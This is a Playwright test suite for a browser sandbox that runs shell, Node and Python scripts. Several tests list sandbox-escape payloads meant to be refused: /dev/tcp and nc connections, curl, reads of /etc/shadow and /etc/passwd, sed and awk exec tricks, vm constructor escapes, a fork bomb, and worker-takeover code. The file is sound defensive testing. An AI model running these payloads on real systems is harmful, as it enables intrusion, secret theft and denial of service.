import { createServer, type Server } from "node:net";
import type { Page } from "@playwright/test";
import { addresses } from "#test/addresses.ts";
import { findings } from "./findings.ts";
import { expect, forgetPackages, test } from "./lab.ts";

// Each run starts a frame with a process and a worker of its own, and these tests start many.
test.slow();
// The next test shares the browser context.
test.afterEach(({ context }) => context.setOffline(false));

/** Opens what the palette finds first. */
async function find(page: Page, text: string): Promise<void> {
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox", { name: /find/i }).fill(text);
  await page.keyboard.press("Enter");
}

/** Opens the terminal of a sample, in a writable folder. */
async function openTerminal(page: Page) {
  await page.goto("/try/first-look");
  await expect(page.getByRole("list", { name: "Loaded skills" })).toContainText("git-helper");
  await find(page, "Terminal");
  const terminal = page.getByRole("region", { name: "Terminal" });
  const command = terminal.getByRole("textbox", { name: "Command" });
  await expect(command).toBeFocused();
  const status = terminal.getByRole("status");
  return {
    terminal,
    command,
    status,
    screen: terminal.locator(".xterm-rows"),
    async run(line: string, ended = "Done") {
      await command.fill(line);
      // The line before may still be ending when its status is there: this one then stays in the box, and a person presses Enter again.
      await expect(async () => {
        await command.press("Enter");
        await expect(command).toHaveValue("", { timeout: 1000 });
      }).toPass();
      // Python's parts are fetched first, and every run starts its own interpreter.
      await expect(status).toHaveText(ended, { timeout: 90_000 });
    },
  };
}

test("a script runs by hand and by its button, what it makes is kept on a click or leaves nothing, and no network is needed", {
  tag: "@smoke",
}, async ({ page, context }) => {
  const { terminal, command, screen, status, run } = await openTerminal(page);
  await run("mkdir -p out && printf 'name,count\\na,1\\n' > out/table.csv && node -p '6 * 7' && ls out");
  await expect(screen).toContainText("42");
  await expect(screen).toContainText("table.csv");
  const made = terminal.getByRole("group", { name: /1 file changed/ });
  await expect(made.getByRole("table")).toContainText("count");
  expect(await findings(page)).toEqual([]);
  await made.getByRole("button", { name: "Keep all" }).click();
  await expect(made).toHaveCount(0);
  // The status bar tells it, with its undo: here it would still be told once that is done.
  await expect(status).toBeEmpty();
  await expect(page.getByRole("tree", { name: "Files" })).toContainText("out");
  // The next line sees the kept files, and starts in the folder where the last one ended.
  await run("cd out && cat table.csv | wc -l");
  await run("pwd");
  await expect(screen).toContainText("/workspace/out");
  await expect(command).toHaveValue("");
  await command.press("ArrowUp");
  await command.press("ArrowUp");
  await expect(command).toHaveValue("cd out && cat table.csv | wc -l");

  await run("jq -nc '[40 + 2]'");
  await expect(screen).toContainText("[42]");

  // Each run uses a new frame.
  await context.setOffline(true);
  await run("node -p '6 * 8'");
  await run("echo abc | sed 's/b/-/'");
  await run("jq -nc '[6 * 9]'");
  await expect(screen).toContainText("48");
  await expect(screen).toContainText("[54]");
  await expect(screen).toContainText("a-c");
  await context.setOffline(false);

  // A line finds what the one before has made, kept or not, and nothing is lost with the terminal.
  await run("echo gone > note.txt");
  await run("cat note.txt; echo more > more.txt");
  await terminal.getByRole("button", { name: "Close the terminal" }).click();
  await find(page, "Terminal");
  await expect(terminal.getByRole("group", { name: /2 files changed/ })).toContainText("more.txt");
  await terminal.getByRole("button", { name: "Keep none" }).click();
  await run("cat note.txt", "Exit code 1");

  // An endless run blocks nothing else, disappears when stopped, and the next one starts.
  await command.fill("echo begun; node -e 'for (;;);'");
  await command.press("Enter");
  await expect(terminal.getByRole("button", { name: "Stop run" })).toBeVisible();
  await command.fill("typed meanwhile");
  await expect(command).toHaveValue("typed meanwhile");
  await terminal.getByRole("button", { name: "Stop run" }).click();
  await expect(terminal.getByRole("status")).toHaveText("Stopped. Nothing was changed.");
  await command.fill("jq -n 'def f: f; f'");
  await command.press("Enter");
  await terminal.getByRole("button", { name: "Stop run" }).click();
  await expect(terminal.getByRole("status")).toHaveText("Stopped. Nothing was changed.");
  // By keyboard too: the button that runs it again stops it.
  await terminal.getByRole("button", { name: "Run again" }).press("Enter");
  await expect(terminal.getByRole("button", { name: "Stop run" })).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(terminal.getByRole("button", { name: "Run again" })).toBeFocused();
  await expect(terminal.getByRole("status")).toHaveText("Stopped. Nothing was changed.");
  await run("exit 3", "Exit code 3");

  // It works on a phone too, where a file and the conversation are separate panels.
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto("/try/first-look?file=.agents/skills/git-helper/scripts/recent.sh");
  await expect(page.getByText("Calls git, which cannot run in a browser.")).toBeVisible();
  expect(await findings(page)).toEqual([]);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.getByRole("region", { name: "Terminal" }).locator(".xterm-rows")).toContainText(
    "git: not available",
  );
});

test("Python is fetched once a run needs it, and runs over the shell's files", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  const { terminal, screen, status, command, run } = await openTerminal(page);
  await run("echo no Python yet");
  expect(asked.filter((path) => path.startsWith("/run/python"))).toEqual([]);
  await command.fill(
    'printf \'name,count\\na,1\\nb,41\\n\' > t.csv && python3 -c \'import csv; print(sum(int(r["count"]) for r in csv.DictReader(open("t.csv"))), file=open("sum.txt", "w"))\' && cat sum.txt',
  );
  await command.press("Enter");
  await expect(screen).toContainText("42", { timeout: 60_000 });
  await expect(status).toHaveText("Done");
  await expect(terminal.getByRole("group", { name: /2 files changed/ })).toContainText("sum.txt");
  await command.fill("python3 -c 'while True: pass'");
  await command.press("Enter");
  await expect(status).toHaveText(/^Running, \d+ s$/);
  await terminal.getByRole("button", { name: "Stop run" }).click();
  await expect(status).toHaveText("Stopped. Nothing was changed.");
});

// Wheels that are not what the list says are in `lib/run/packages/packages.test.ts`.
test("the packages that a script asks for are told where it is read, fetched on a click, kept for the next run and removed in the settings", async ({
  page,
}) => {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.url().startsWith(addresses.packages))
      asked.push(`${request.method()} ${new URL(request.url()).pathname}`);
  });
  const { terminal, screen, command, status, run } = await openTerminal(page);
  await forgetPackages(page);
  await run("printf 'import words\\nimport nowhere\\n' > asks.py");
  await terminal.getByRole("button", { name: "Keep all" }).click();
  await find(page, "asks.py");
  const host = new URL(addresses.packages).host;
  await expect(
    page.getByText(new RegExp(`Needs words, \\d+ B from ${host}\\. Needs nowhere, which is not here\\.`)),
  ).toBeVisible();
  await page.getByRole("button", { name: "Declare 2 packages" }).click();
  await expect(page.getByText('#   "nowhere",')).toBeVisible();
  await expect(page.getByRole("button", { name: /^Declare/ })).toHaveCount(0);
  await find(page, "Terminal");

  const line = "mkdir -p out && cd out && python3 -c 'import greet; print(greet.hello)'";
  await run(line, "Exit code 1");
  const offer = terminal.getByRole("group", {
    name: new RegExp(`^Needs words and greet-py, \\d+ B from ${host}\\.$`),
  });
  await expect(offer).toBeVisible();
  await expect(screen).toContainText('# dependencies = ["greet-py"]');
  expect(asked.filter((each) => each.endsWith(".whl") && each.startsWith("GET"))).toEqual([]);
  expect(await findings(page)).toEqual([]);
  await offer.getByRole("button", { name: "Fetch and run again" }).click();
  await expect(status).toHaveText("Done", { timeout: 90_000 });
  await expect(screen).toContainText("hello from a package");
  await expect(terminal.getByRole("group", { name: /file/ })).toHaveCount(0);

  // The next run has the packages, and nobody is asked. A script is scanned before it runs: missing packages are offered first, and can be
  // declined.
  asked.length = 0;
  await run("echo 'import tampered' > t.py; echo 'import words; print(words.hello.upper())' > w.py");
  await terminal.getByRole("button", { name: "Keep all" }).click();
  await run("python3 w.py");
  await expect(screen).toContainText("HELLO FROM A PACKAGE");
  expect(asked).toEqual([]);
  await command.fill("python3 t.py");
  await command.press("Enter");
  await expect(status).toHaveText("Waiting for your answer");
  await expect(terminal.getByText(`tampered needs unbuilt, which ${host} does not have.`)).toBeVisible();
  await terminal.getByRole("button", { name: "Run without" }).click();
  await expect(status).toHaveText("Exit code 1", { timeout: 90_000 });

  await find(page, "Settings");
  const settings = page.getByRole("dialog", { name: "Settings" });
  await settings.getByRole("button", { name: "Remove the packages" }).click();
  await expect(settings.getByText("Removed.")).toBeVisible();
  expect(await page.evaluate(() => caches.has("skillground-packages"))).toBe(false);
});

test("a source's script runs where the source lies, and what it makes there is the source's", async ({ lab, page }) => {
  await lab.visit("acme/skills");
  const script = "/mnt/acme-skills/skills/pdf-forms/scripts/fill.py";
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox", { name: /find/i }).fill("fill.py");
  await page.getByRole("option", { name: `file ${script}` }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  const terminal = page.getByRole("region", { name: "Terminal" });
  const status = terminal.getByRole("status");
  await expect(status).toHaveText("Done", { timeout: 90_000 });
  const lines = terminal.getByRole("listitem");
  await expect(lines.filter({ hasText: `$ python3 ${script}` })).toBeVisible();
  await expect(lines.filter({ hasText: /^filled$/ })).toBeVisible();
  const command = terminal.getByRole("textbox", { name: "Command" });
  await command.fill("cd /mnt/acme-skills && echo kept > made.txt");
  await command.press("Enter");
  await expect(terminal.getByRole("group", { name: /1 file changed/ })).toContainText("made.txt");
  await terminal.getByRole("button", { name: "Keep all" }).click();
  await command.fill("cat made.txt");
  await command.press("Enter");
  await expect(lines.filter({ hasText: /^kept$/ })).toBeVisible();
});

test("a run prints as it goes, and is given one more minute on a click, once", async ({ page }) => {
  await page.clock.install();
  const { terminal, command, status } = await openTerminal(page);
  await command.fill("echo first; sleep 0.2; echo second; node -e 'for (;;);'");
  await command.press("Enter");
  // The line that was typed also contains these words.
  await expect(terminal.getByRole("listitem").filter({ hasText: /^second$/ })).toBeVisible();
  await expect(status).toHaveText(/^Running/);
  const more = terminal.getByRole("button", { name: "One more minute" });
  await expect(more).toHaveCount(0);
  await page.clock.fastForward(35_000);
  await more.click();
  await expect(more).toHaveCount(0);
  await page.clock.fastForward(40_000);
  await expect(terminal.getByRole("button", { name: "Stop run" })).toBeVisible();
  await page.clock.fastForward(60_000);
  await expect(status).toHaveText("Stopped because its time ran out. Nothing was changed.");
});

/** The attempts as a JavaScript array of names, and functions that throw if they reached nothing. */
function inOrder(list: Readonly<Record<string, string>>): string {
  return Object.entries(list)
    .map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`)
    .join(",\n");
}

/** What a script in JavaScript tries; each attempt must fail, and reports that. */
const attempts: Readonly<Record<string, string>> = {
  fetch: "await fetch(site)",
  "an import by address": "await import(site + '/x.js')",
  "a part of Node with a network": "await new Promise((ok, no) => require('http').get(site, ok).on('error', no))",
  net: "await new Promise((ok, no) => require('net').connect(canary, ok).on('error', no))",
  dns: "await require('dns').promises.lookup('x.example')",
  tls: "await new Promise((ok, no) => require('tls').connect(443, ok).on('error', no))",
  "another thread": "new (require('worker_threads').Worker)('x')",
  "the sandbox's own global": "globalThis.constructor.constructor('return postMessage')()('x')",
  "postMessage to others": "postMessage('x', '*')",
  "the page": "window.top.location = site",
  opener: "opener.location = site",
  "its own address": "location.href = site",
  "a WebSocket": "new WebSocket(site)",
  "a request object": "new XMLHttpRequest().open('GET', site)",
  beacon: "navigator.sendBeacon(site, 'x')",
  storage: "indexedDB.open('x')",
  "local storage": "localStorage.setItem('a', 'b')",
  cookies: "document.cookie.length",
  "an image": "new Image().src = site",
  WebRTC: "new RTCPeerConnection()",
  "a clock of shared memory": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1)",
  WebAssembly: "new WebAssembly.Memory({ initial: 1 })",
  "what the sandbox calls": "__native.call('fetch', '[]').nothing.here",
  "a file that was not given": "require('fs').readFileSync('/etc/passwd')",
  "above the root": "require('fs').readFileSync('../../../../../../etc/passwd')",
  "a link out": "require('fs').symlinkSync('/proc/self/environ', 'l'); require('fs').readFileSync('l')",
  "a constructor's constructor in vm":
    "require('vm').runInNewContext('this.constructor.constructor(\"return postMessage\")')()('x')",
  "the constructor of an error of vm's":
    "try { require('vm').runInNewContext('null.x') } catch (e) { e.constructor.constructor('return importScripts')()(site) }",
  "a Function of vm's realm":
    "await new (require('vm').Script)('Function(\"return fetch\")()').runInNewContext()(site + '/secret')",
  "a generator's constructor in vm":
    "require('vm').runInNewContext('(function* () {}).constructor(\"yield self.location\")()').next().value.href",
  "vm's own import":
    "await require('vm').runInThisContext('import(' + JSON.stringify(site + '/x.js') + ')', { importModuleDynamically: () => import(site + '/x.js') })",
  "what the sandbox calls, in vm":
    "require('vm').compileFunction('return __native.call(\"fetch\", \"[]\").nothing.here')()",
};

/**
 * The same in Python. Pyodide offers `js` and similar modules to scripts elsewhere; `ctypes` reaches everything that Pyodide's own code
 * can.
 */
const pythonAttempts: Readonly<Record<string, string>> = {
  urllib: "import urllib.request; urllib.request.urlopen(site)",
  "http.client": "import http.client; http.client.HTTPConnection('127.0.0.1', port).request('GET', '/')",
  "a socket": "import socket; socket.socket().connect(('127.0.0.1', port))",
  "a socket below": "import _socket; s = _socket.socket(); s.connect(('127.0.0.1', port)); s.send(b'x')",
  "a name": "import socket; socket.getaddrinfo('x.example', 80)",
  "asyncio's connection": "import asyncio; asyncio.run(asyncio.open_connection('127.0.0.1', port))",
  ftplib: "import ftplib; ftplib.FTP('127.0.0.1')",
  js: "import js; js.fetch(site)",
  "js from": "from js import postMessage",
  pyodide_js: "import pyodide_js; pyodide_js._module",
  "pyodide's fetch": "from pyodide.http import pyfetch; import asyncio; asyncio.run(pyfetch(site))",
  "pyodide's request": "from pyodide.http import open_url; open_url(site)",
  run_js: "from pyodide.code import run_js; run_js('fetch(1)')",
  "the finder of js": "from _pyodide._importhook import jsfinder; jsfinder.jsproxies['js']",
  micropip: "import micropip",
  "loading a package":
    "from pyodide import _package_loader; _package_loader.loadedPackages.constructor.constructor('return 1')()",
  "a function of the page's":
    "import gc; from pyodide.ffi import JsProxy; [f for f in gc.get_objects() if isinstance(f, JsProxy)][0].constructor.constructor('return 1')()",
  "the loop's scheduler": "import pyodide.webloop; pyodide.webloop.scheduleCallback.constructor('return 1')()",
  "a fork": "import os; os.fork()",
  "a thread":
    "import threading, urllib.request; r = []; t = threading.Thread(target=lambda: r.append(urllib.request.urlopen(site))); t.start(); t.join(); assert r",
  "another process": "import multiprocessing; multiprocessing.Process(target=print).start()",
  "a browser": "import webbrowser; assert webbrowser.open(site)",
  "curl by subprocess": "import subprocess; subprocess.check_call(['curl', site])",
  "curl by a shell": "import os; assert os.system('curl ' + site) == 0",
  "a file that was not given": "open('/etc/passwd')",
  "above the root": "open('../../../../../etc/hosts')",
  "a link out": "import os; os.symlink('/proc/self/environ', 'l2'); open('l2')",
};

const shellAttempts: readonly string[] = [
  "curl http://127.0.0.1:PORT",
  "wget -O- http://127.0.0.1:PORT",
  "cat < /dev/tcp/127.0.0.1/PORT",
  "exec 3<>/dev/tcp/127.0.0.1/PORT",
  "nc 127.0.0.1 PORT",
  "git clone http://127.0.0.1:PORT/x",
  "npm install left-pad",
  "pip install requests",
  "cat /etc/shadow",
  "cat ../../../../etc/hosts",
  "ln -s / root && cat root/etc/passwd",
  "ssh user@127.0.0.1 -p PORT",
  "sed -n '1e cat /etc/shadow' /tmp/a.js | grep .",
  "echo 'curl http://127.0.0.1:PORT' | sed 's/.*/&/e' | grep .",
  "echo x | sed 'w /dev/tcp/127.0.0.1/PORT'",
  "echo x | sed 'r /etc/passwd' | grep root",
  `awk 'BEGIN { exit system("curl http://127.0.0.1:PORT") }'`,
  `awk 'BEGIN { exit !("cat /etc/shadow" | getline x > 0) }'`,
  `awk 'BEGIN { exit !((getline x < "/etc/passwd") > 0) }'`,
  `awk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; exit !((getline x < s) > 0) }'`,
  `awk 'BEGIN { c = "nc 127.0.0.1 PORT"; print "x" | c; exit close(c) }'`,
  `awk 'BEGIN { print "x" > "/dev/tcp/127.0.0.1/PORT" }'`,
];

test("no script gets out of the sandbox, by JavaScript, by Python or by the shell", async ({ page }) => {
  const canary = await listen();
  const { screen, run, command, status } = await openTerminal(page);
  const asked: string[] = [];
  // A request that the policy blocks is reported as a request too, but never gets a response.
  page.context().on("response", (response) => asked.push(response.url()));
  const script = `const site = 'http://127.0.0.1:${canary.port}', canary = ${canary.port};
    (async () => {
      let refused = 0;
      for (const [name, attempt] of [${inOrder(attempts)}]) {
        try { await attempt(); console.log('ESCAPED ' + name); } catch { refused++; }
      }
      console.log(refused + ' refused');
    })();`;
  await run(`echo ${Buffer.from(script).toString("base64")} | base64 -d > /tmp/a.js && node /tmp/a.js`);
  await expect(screen).toContainText(`${Object.keys(attempts).length} refused`);
  await expect(screen).not.toContainText("ESCAPED");
  const python = `site, port = 'http://127.0.0.1:${canary.port}', ${canary.port}
refused = 0
for name, attempt in ${JSON.stringify(Object.entries(pythonAttempts))}:
    try:
        exec(attempt)
        print('ESCAPED ' + name)
    except BaseException:
        refused += 1
print(refused, 'in Python refused')`;
  await run(`echo ${Buffer.from(python).toString("base64")} | base64 -d > /tmp/a.py && python3 /tmp/a.py 2> /dev/null`);
  await expect(screen).toContainText(`${Object.keys(pythonAttempts).length} in Python refused`);
  // Through C it reaches the function that evaluates JavaScript; the policy blocks that.
  await run(
    'python3 -c \'import ctypes; ctypes.CDLL(None).emscripten_run_script(b"1"); print("ESC" + "APED")\' 2> /dev/null',
    "Exit code 134",
  );
  await expect(screen).not.toContainText("ESCAPED");
  const lines = shellAttempts.map(
    (line) => `(${line.replaceAll("PORT", String(canary.port))}) > /dev/null 2>&1 || refused=$((refused + 1))`,
  );
  await run(`${lines.join("; ")}; echo $refused lines refused`);
  await expect(screen).toContainText(`${shellAttempts.length} lines refused`);

  // A fork bomb ends only its own line.
  await run(":(){ :|:& };: ; echo $((20 + 22)) escaped", "Exit code 126");
  await expect(screen).not.toContainText("42 escaped");

  // Flooding the output ends the run, not the page.
  await command.fill("node -e 'for (;;) console.log(\"x\".repeat(9999))'");
  await command.press("Enter");
  await expect(status).toHaveText("Stopped because it printed more than can be shown. Nothing was changed.", {
    timeout: 60_000,
  });
  await run("echo still here");
  expect(canary.connections()).toBe(0);
  // The page itself asks once where packages are.
  expect(
    asked.filter((address) => !address.startsWith("blob:") && !/\/run\/|\/_next\/|\/api\/packages$/.test(address)),
  ).toEqual([]);
  await canary.close();
});

/** What code would try after escaping from its language into the worker. `say` reports what got out. */
const workerAttempts: Readonly<Record<string, string>> = {
  fetch: "await fetch(site)",
  "fetch without an answer": "await fetch(site, { mode: 'no-cors', method: 'POST', body: 'secret' })",
  "fetch of this site": "await fetch(own + '/api/health')",
  "fetch of an address of data": "await fetch('data:text/plain,x')",
  XMLHttpRequest:
    "await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open('GET', site); r.send(); })",
  WebSocket:
    "await new Promise((done, fail) => { const s = new WebSocket(site.replace('http', 'ws')); s.onopen = done; s.onerror = fail; })",
  EventSource:
    "await new Promise((done, fail) => { const s = new EventSource(site); s.onopen = done; s.onerror = fail; })",
  WebTransport: "await new WebTransport(site.replace('http', 'https')).ready",
  "an import": "await import(site + '/x.js')",
  "an import of this site": "await import(own + '/run/frame.js')",
  "an import with the secret in its address": "await import(own + '/run/frame.js?secret')",
  "an import of data": "await import('data:text/javascript,export default 1')",
  importScripts: "importScripts(site + '/x.js')",
  "a worker by address":
    "await new Promise((done, fail) => { const w = new Worker(site + '/x.js'); w.onmessage = done; w.onerror = fail; })",
  "a worker of this site":
    "await new Promise((done, fail) => { const w = new Worker(own + '/run/worker.js'); w.onmessage = done; w.onerror = fail; })",
  "a worker of a worker":
    "await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(site) + ').then(() => postMessage(1), () => close())']))); w.onmessage = done; w.onerror = fail; setTimeout(fail, 500); })",
  SharedWorker: "new SharedWorker(site + '/x.js')",
  "a channel to other pages": "new BroadcastChannel('skillground').postMessage('x'); throw 0",
  IndexedDB:
    "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })",
  caches: "await caches.open('x')",
  "the origin's files": "await navigator.storage.getDirectory()",
  cookies: "await cookieStore.getAll()",
  beacon: "if (navigator.sendBeacon(site)) return; throw 0",
  "service workers": "await navigator.serviceWorker.register(own + '/service-worker.js')",
  locks: "await navigator.locks.request('x', () => 1)",
  "shared memory": "new SharedArrayBuffer(8)",
  eval: "(0, eval)('1')",
  Function: "new Function('return 1')()",
  "a font": "const f = new FontFace('x', 'url(' + site + ')'); await f.load()",
  "a picture": "await createImageBitmap(await (await fetch(site)).blob())",
  WebRTC: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }).createDataChannel('x')",
  streaming: "await WebAssembly.compileStreaming(fetch(site))",
  "the page's document": "document.body.append('x')",
  "the page's window": "parent.postMessage('x', '*')",
  geolocation: "navigator.geolocation.getCurrentPosition(() => 0)",
  notifications: "if ((await Notification.requestPermission()) === 'granted') return; throw 0",
};

test("code that has taken the worker over reaches no server, page or storage", async ({ page, baseURL }) => {
  const canary = await listen();
  await page.goto("/guide");
  const asked: string[] = [];
  // A request that the policy blocks is reported as a request too, but never gets a response.
  page.context().on("response", (response) => asked.push(response.url()));
  const script = `const site = 'http://127.0.0.1:${canary.port}', own = ${JSON.stringify(baseURL)};
    (async () => {
      const out = [];
      for (const [name, attempt] of [${inOrder(workerAttempts)}]) {
        const late = new Promise((done, fail) => setTimeout(fail, 1500));
        try { await Promise.race([attempt(), late]); out.push(name); } catch {}
      }
      postMessage({ kind: 'output', stream: 'out', text: JSON.stringify(out) });
    })();`;
  const got = await page.evaluate(async (code) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.src = "/run/page.html";
    const said = new Promise<string>((done) => {
      addEventListener("message", ({ data }) => {
        if (data.kind === "frame") frame.contentWindow?.postMessage({ kind: "worker", run: 1, script: code }, "*");
        else done(data.said.text);
      });
    });
    document.body.append(frame);
    return said;
  }, script);
  expect(JSON.parse(got)).toEqual([]);
  expect(canary.connections()).toBe(0);
  expect(asked.filter((address) => /secret|\/api\//.test(address))).toEqual([]);
  await canary.close();
});

test("code that has taken a worker over is not there for the next run in its frame, and leaves nothing", async ({
  page,
}) => {
  await page.goto("/guide");
  // It answers to every name, reports that it has ended, and continues.
  const taking = `globalThis.left = 1; Object.prototype.left = 1; self.name = 'left';
    try { new BroadcastChannel('next').onmessage = ({ target }) => target.postMessage('left'); } catch {}
    try { new Worker(URL.createObjectURL(new Blob(['setInterval(() => postMessage(1), 5)']))); } catch {}
    for (const run of [1, 2, 3]) postMessage({ kind: 'said', run, said: { kind: 'output', stream: 'out', text: 'TAKEN' } });
    postMessage({ kind: 'output', stream: 'out', text: 'first' });
    setInterval(() => postMessage({ kind: 'output', stream: 'out', text: 'TAKEN' }), 1);
    addEventListener('message', () => postMessage({ kind: 'output', stream: 'out', text: 'TAKEN' }));`;
  const next = `const found = ['left' in globalThis, 'left' in {}, self.name === 'left'];
    let heard = 0;
    try { const channel = new BroadcastChannel('next'); channel.onmessage = () => heard++; channel.postMessage('x'); } catch {}
    setTimeout(() => postMessage({ kind: 'output', stream: 'out', text: JSON.stringify([...found, heard]) }), 500);`;
  const said = await page.evaluate(
    async ([one, other]) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.src = "/run/page.html";
      const heard: { readonly run: number; readonly text: string }[] = [];
      const tell = (message: object) => frame.contentWindow?.postMessage(message, "*");
      const until = (is: (data: { readonly kind: string; readonly run: number }) => boolean) =>
        new Promise<void>((done) => addEventListener("message", ({ data }) => is(data) && done()));
      addEventListener("message", ({ data }) => data.kind === "said" && heard.push({ ...data, text: data.said.text }));
      document.body.append(frame);
      await until(({ kind }) => kind === "frame");
      tell({ kind: "worker", run: 1, script: one });
      await until(({ run }) => run === 1);
      tell({ kind: "clear" });
      tell({ kind: "worker", run: 2, script: other });
      await until(({ run }) => run === 2);
      return heard;
    },
    [taking, next] as const,
  );
  expect(said.filter(({ run }) => run !== 1)).toMatchObject([{ run: 2, text: "[false,false,false,0]" }]);
  expect(said[0]).toMatchObject({ run: 1, text: "first" });
});

/** A server that counts all connections. */
async function listen() {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const address = server.address();
  return {
    port: typeof address === "object" && address ? address.port : 0,
    connections: () => connections,
    close: () => new Promise<void>((done) => void server.close(() => done())),
  };
}
